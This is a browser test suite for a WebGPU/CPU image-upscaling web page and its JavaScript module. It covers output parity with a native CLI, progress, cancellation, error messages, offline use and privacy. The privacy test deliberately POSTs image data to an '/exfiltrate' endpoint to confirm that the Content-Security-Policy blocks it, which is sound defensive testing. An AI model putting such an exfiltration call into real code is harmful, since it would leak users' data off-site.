// The page and the module in a real browser (headless Debian Chromium, WebGPU on SwiftShader):
// load, upscale, equality with the native CLI, progress, cancel, bad input, CPU fallback,
// privacy (no request leaves the origin, CSP in force), offline after the first visit.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import {
  ROOT, TRAINER, startServer, launch, testImage, encodePng, nativeUpscale, maxAbsDiff,
  nativeGflopsPerOutputMp,
} from "./harness.mjs";

let server;
let browser;
let context;
let page;
const requests = [];
const consoleErrors = [];

before(async () => {
  server = await startServer();
  browser = await launch({ webgpu: true });
  context = await browser.newContext();
  context.on("request", (r) => requests.push(r.url()));
  page = await context.newPage();
  page.on("console", (m) => m.type() === "error" && consoleErrors.push(m.text()));
  page.on("pageerror", (e) => consoleErrors.push(String(e)));
  await page.goto(`${server.origin}/`);
  await page.waitForFunction(() => document.body.dataset.backend, null, { timeout: 120_000 });
});

after(async () => {
  await browser?.close();
  server?.close();
});

// Runs the module API inside the page (same origin, same worker code the page uses).
async function inPage(fn, arg) {
  return page.evaluate(fn, arg);
}

test("the page picks its backend: a software WebGPU adapter loses to the CPU, and says so", async () => {
  // SwiftShader is a software adapter: "auto" prefers the (measured faster) wasm CPU backend.
  assert.equal(await page.evaluate(() => document.body.dataset.backend), "cpu");
  assert.match(await page.textContent("#model-info"), /WebGPU unavailable: the only WebGPU adapter is a software rasteriser \(swiftshader/);
  const info = await inPage(async () => {
    const { Upscaler } = await import("./gdpo-sr.js");
    const u = await Upscaler.load("weights/default.safetensors", { backend: "webgpu" });
    const i = u.info();
    u.terminate();
    return i;
  });
  assert.equal(info.backend, "webgpu", JSON.stringify(info));
  assert.equal(info.fallbackReason, null);
  assert.equal(info.adapter.software, true);
  assert.equal(info.adapter.architecture, "swiftshader");
  assert.ok(info.adapter.maxStorageBufferBindingSize > 0);
  assert.equal(info.preset, "tiny");
});

test("the browser output equals the native CLI output for the same weights and seed", async () => {
  const image = testImage(24, 20);
  for (const [scale, seed, tile] of [[4, 7, 8], [2, 3, 64]]) {
    const native = nativeUpscale(image, { scale, seed, tile });
    const web = await inPage(async ({ image, scale, seed, tile }) => {
      const { Upscaler } = await import("./gdpo-sr.js");
      const u = await Upscaler.load("weights/default.safetensors", { backend: "webgpu" });
      const progress = [];
      const data = new Uint8ClampedArray(image.data);
      const r = await u.upscale({ width: image.width, height: image.height, data }, {
        scale, seed, tileSize: tile, float32: true,
        onProgress: (p) => progress.push(p),
      });
      u.terminate();
      return { width: r.width, height: r.height, rgb: Array.from(r.rgb), tiles: r.tiles, steps: r.steps, progress, backend: r.backend };
    }, { image: { ...image, data: Array.from(image.data) }, scale, seed, tile });
    assert.equal(web.backend, "webgpu");
    assert.deepEqual(native.shape, [3, web.height, web.width]);
    const diff = maxAbsDiff(native.values, web.rgb);
    console.log(`x${scale} tile ${tile}: ${web.tiles} tiles, max |native - browser| = ${diff.toExponential(2)}`);
    assert.ok(diff < 1e-3, `max abs diff ${diff}`);
    assert.equal(web.steps, 2 * web.tiles + 1, "an encode and a decode step per tile, one whole-image step");
    assert.equal(web.progress.length, web.steps, "one progress event per step");
    assert.deepEqual(web.progress.at(-1), { done: web.steps, total: web.steps });
  }
});

test("a visitor drops an image, sees progress and gets a downloadable result", async () => {
  await page.setInputFiles("#file", {
    name: "generated.png", mimeType: "image/png", buffer: encodePng(testImage(32, 24)),
  });
  await page.waitForFunction(() => !document.getElementById("run").disabled);
  await page.selectOption("#scale", "2");
  // Before starting, the page says how long it will take here (from the speed it measured).
  await page.waitForFunction(() => document.getElementById("estimate").dataset.seconds, null, { timeout: 60_000 });
  assert.match(await page.textContent("#estimate"), /^Estimated time for 64×48: (under a second|about [\d.]+ (s|min|h)) on the CPU \([\d.]+ (TFLOP|GFLOP) at the [\d.]+ GFLOP\/s measured here\)/);
  const at2 = Number(await page.getAttribute("#estimate", "data-seconds"));
  await page.selectOption("#scale", "4");
  await page.waitForFunction((s) => Number(document.getElementById("estimate").dataset.seconds) > s, at2);
  assert.ok(Math.abs(Number(await page.getAttribute("#estimate", "data-seconds")) / at2 - 4) < 1e-2,
    "the estimate scales with the output pixels");
  await page.selectOption("#scale", "2");
  await page.click("#run");
  await page.waitForFunction(() => document.body.dataset.done === "1", null, { timeout: 120_000 });
  assert.match(await page.textContent("#status"), /Done: 64×48 in [\d.]+ s \(1 tile, cpu\)/);
  assert.ok(Number(await page.getAttribute("#progress", "data-events")) >= 1, "progress was shown");
  const href = await page.getAttribute("#download", "href");
  assert.match(href, /^blob:/);
  const size = await page.evaluate(async () => {
    const img = document.getElementById("after");
    await img.decode();
    return [img.naturalWidth, img.naturalHeight];
  });
  assert.deepEqual(size, [64, 48]);
  mkdirSync(join(ROOT, "target/browser"), { recursive: true });
  await page.screenshot({ path: join(ROOT, "target/browser/page.png"), fullPage: true });
});

test("info() reports the model's FLOPs per output megapixel as the native CLI counts them", async () => {
  const gflops = await inPage(async () => {
    const { Upscaler } = await import("./gdpo-sr.js");
    const u = await Upscaler.load("weights/default.safetensors", { backend: "cpu" });
    const info = u.info();
    u.terminate();
    return { preset: info.preset, gflops: info.gflopsPerOutputMegapixel };
  });
  const native = nativeGflopsPerOutputMp(TRAINER, gflops.preset);
  assert.ok(Math.abs(gflops.gflops - native) < 0.05 + 1e-3 * native, `${gflops.gflops} vs native ${native}`);
});

test("cancel stops an upscale and the module keeps working", async () => {
  const outcome = await inPage(async () => {
    const { Upscaler } = await import("./gdpo-sr.js");
    const u = await Upscaler.load("weights/default.safetensors", { backend: "webgpu" });
    const w = 64, h = 64;
    const image = { width: w, height: h, data: new Uint8ClampedArray(w * h * 4).fill(128) };
    const controller = new AbortController();
    let events = 0;
    let error = null;
    try {
      await u.upscale(image, {
        scale: 2, tileSize: 8, signal: controller.signal,
        onProgress: () => { events++; controller.abort(); },
      });
    } catch (e) {
      error = { name: e.name, message: e.message };
    }
    const again = await u.upscale({ width: 8, height: 8, data: new Uint8ClampedArray(256).fill(90) }, { scale: 2 });
    u.terminate();
    return { error, events, again: [again.width, again.height] };
  });
  assert.equal(outcome.error?.name, "AbortError", JSON.stringify(outcome));
  assert.ok(outcome.events >= 1 && outcome.events < 64, `stopped early after ${outcome.events} steps`);
  assert.deepEqual(outcome.again, [16, 16]);
});

test("transparency is carried through the upscale", async () => {
  const alpha = await inPage(async () => {
    const { Upscaler } = await import("./gdpo-sr.js");
    const u = await Upscaler.load("weights/default.safetensors", { backend: "webgpu" });
    const w = 8, h = 8;
    const data = new Uint8ClampedArray(w * h * 4).fill(120);
    for (let i = 0; i < w * h; i++) data[i * 4 + 3] = i % w < 4 ? 0 : 255; // left half transparent
    const out = await u.upscale({ width: w, height: h, data }, { scale: 2 });
    u.terminate();
    const row = [];
    for (let x = 0; x < out.width; x++) row.push(out.data[(5 * out.width + x) * 4 + 3]);
    return row;
  });
  assert.equal(alpha.length, 16);
  assert.ok(alpha.slice(0, 6).every((a) => a === 0), JSON.stringify(alpha));
  assert.ok(alpha.slice(10).every((a) => a === 255), JSON.stringify(alpha));
});

test("bad input rejects with a clear message and the module keeps working", async () => {
  const results = await inPage(async () => {
    const { Upscaler } = await import("./gdpo-sr.js");
    const errors = {};
    const catchMsg = async (p) => { try { await p; return null; } catch (e) { return `${e.name}: ${e.message}`; } };
    errors.weights = await catchMsg(Upscaler.load(new Uint8Array([1, 2, 3, 4, 5, 6, 7, 8, 9])));
    errors.missingWeights = await catchMsg(Upscaler.load("weights/missing.safetensors", { cache: false }));
    const u = await Upscaler.load("weights/default.safetensors", { backend: "webgpu" });
    errors.empty = await catchMsg(u.upscale({ width: 0, height: 4, data: new Uint8ClampedArray(0) }));
    errors.huge = await catchMsg(u.upscale({ width: 100000, height: 100000, data: new Uint8ClampedArray(4) }));
    errors.shortData = await catchMsg(u.upscale({ width: 4, height: 4, data: new Uint8ClampedArray(10) }));
    errors.notPixels = await catchMsg(u.upscale({ width: 2, height: 2, data: "nope" }));
    errors.scale = await catchMsg(u.upscale({ width: 2, height: 2, data: new Uint8ClampedArray(16) }, { scale: 99 }));
    errors.detail = await catchMsg(u.upscale({ width: 2, height: 2, data: new Uint8ClampedArray(16) }, { detail: 2 }));
    errors.noImage = await catchMsg(u.upscale(null));
    const ok = await u.upscale({ width: 4, height: 4, data: new Uint8ClampedArray(64).fill(200) }, { scale: 2 });
    u.terminate();
    return { errors, ok: [ok.width, ok.height] };
  });
  const e = results.errors;
  assert.match(e.weights, /not a valid GDPO-SR weight file/);
  assert.match(e.missingWeights, /HTTP 404/);
  assert.match(e.empty, /empty/);
  assert.match(e.huge, /MP limit/);
  assert.match(e.shortData, /needs 64/);
  assert.match(e.notPixels, /Uint8ClampedArray/);
  assert.match(e.scale, /scale must be an integer in 1..=8/);
  assert.match(e.detail, /TypeError: detail must be a number in 0..=1/);
  assert.match(e.noImage, /needs an image/);
  assert.deepEqual(results.ok, [8, 8]);

  // A file that is not an image, through the page.
  await page.setInputFiles("#file", { name: "photo.png", mimeType: "image/png", buffer: Buffer.from("not an image at all") });
  await page.waitForFunction(() => document.getElementById("status").classList.contains("error"));
  assert.match(await page.textContent("#status"), /is not an image this browser can decode/);
});

test("no request leaves the origin and the Content-Security-Policy is in force", async () => {
  const response = await page.goto(`${server.origin}/`);
  assert.match(response.headers()["content-security-policy"], /default-src 'self'/);
  await page.waitForFunction(() => document.body.dataset.backend, null, { timeout: 120_000 });
  const blocked = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
    let fetched = true;
    try { await fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "pixels" }); } catch { fetched = false; }
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, violations };
  });
  assert.equal(blocked.fetched, false);
  assert.ok(blocked.violations.includes("connect-src"), JSON.stringify(blocked));
  const foreign = requests.filter((u) => !u.startsWith(server.origin) && !u.startsWith("blob:") && !u.startsWith("data:"));
  // The blocked probe above never reaches the network; nothing else may even be attempted.
  assert.deepEqual(foreign.filter((u) => !u.includes("127.0.0.2:9")), [], "requests to other origins");
  const own = new Set(requests.filter((u) => u.startsWith(server.origin)).map((u) => new URL(u).pathname));
  for (const p of own) assert.match(p, /^\/($|index\.html|style\.css|app\.js|gdpo-sr(-worker)?\.js|web(_bg\.wasm|\.js)|sw\.js|weights\/)/, p);
});

test("works offline after the first visit", async () => {
  await page.goto(`${server.origin}/`);
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.waitForFunction(() => document.body.dataset.backend, null, { timeout: 120_000 });
  await context.setOffline(true);
  try {
    await page.reload();
    await page.waitForFunction(() => document.body.dataset.backend, null, { timeout: 120_000 });
    assert.match(await page.textContent("#status"), /Ready/);
  } finally {
    await context.setOffline(false);
  }
});

test("without WebGPU the CPU fallback runs, says so, and matches native", async () => {
  const noGpu = await launch({ webgpu: false });
  try {
    const p = await (await noGpu.newContext()).newPage();
    await p.goto(`${server.origin}/?nosw`);
    await p.waitForFunction(() => document.body.dataset.backend, null, { timeout: 120_000 });
    assert.equal(await p.evaluate(() => document.body.dataset.backend), "cpu");
    assert.match(await p.textContent("#model-info"), /CPU \(WebGPU unavailable: .+\)/);
    const image = testImage(16, 12);
    const native = nativeUpscale(image, { scale: 4, seed: 1, tile: 64 });
    const web = await p.evaluate(async (image) => {
      const { Upscaler } = await import("./gdpo-sr.js");
      const u = await Upscaler.load("weights/default.safetensors");
      const r = await u.upscale({ ...image, data: new Uint8ClampedArray(image.data) },
        { scale: 4, seed: 1, tileSize: 64, float32: true });
      return { backend: u.info().backend, rgb: Array.from(r.rgb) };
    }, { ...image, data: Array.from(image.data) });
    assert.equal(web.backend, "cpu");
    assert.ok(maxAbsDiff(native.values, web.rgb) < 1e-3);
  } finally {
    await noGpu.close();
  }
});

test("no script errors on the page", () => {
  const unexpected = consoleErrors.filter((m) => !/Failed to load resource|ERR_INTERNET_DISCONNECTED|exfiltrate|Content Security Policy|missing\.safetensors/.test(m));
  assert.deepEqual(unexpected, []);
});
